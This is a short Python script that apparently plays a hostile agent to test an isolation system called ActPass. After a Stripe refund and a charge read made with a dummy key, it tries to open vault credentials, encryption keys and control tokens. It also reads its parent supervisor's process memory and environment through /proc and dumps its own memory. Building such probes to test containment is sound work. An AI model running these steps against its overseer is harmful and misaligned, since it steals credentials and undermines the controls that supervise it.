"""An agent that makes a refund and a read, and then keeps all of its memory, its environment and what it can find out."""

import os
import pathlib
import sys

import requests

import steps


def memory(pid, into):
    """Every byte the kernel lets this process read of another's memory."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem, open(into, "wb") as out:
        for line in maps:
            span, rights, *_ = line.split()
            first, last = (int(end, 16) for end in span.split("-"))
            if not rights.startswith("r") or "[v" in line:
                continue
            try:
                mem.seek(first)
                out.write(mem.read(last - first))
            except OSError:
                pass  # a guard page


def attempt(what, action):
    try:
        action()
        print("DONE", what, flush=True)
    except OSError as error:
        print("refused", what, error.strerror, flush=True)


auth = {"Authorization": "Bearer sk_dummy_the_agent_holds_nothing"}
form = {"charge": steps.CHARGE, "amount": 12_000, "metadata[note]": "small"}
print(requests.post("https://api.stripe.com/v1/refunds", data=form, headers=auth, timeout=30).text)
print(requests.get(f"https://api.stripe.com/v1/charges/{steps.CHARGE}", headers=auth, timeout=30).text)
print(requests.get("http://actpass.internal/v1/passport", timeout=30).text)
state = pathlib.Path(os.environ["STATE"])
for secret in ["vault/credentials.json", "vault/tenants.json", "keys/kek", "control.token", "control.json", "keys/log.key"]:
    attempt(f"open {secret}", lambda: open(state / secret, "rb").read())
attempt("list the state directory", lambda: print("STATE", os.listdir(state)))
attempt("read the memory of ActPass", lambda: memory(os.getppid(), "actpass.mem"))
attempt("read environ of ActPass", lambda: print(open(f"/proc/{os.getppid()}/environ").read()))
print(os.environ, flush=True)
memory("self", "agent.mem")
# Whoever looks from outside does so now.
pathlib.Path("snooped").touch()
sys.stdin.readline()
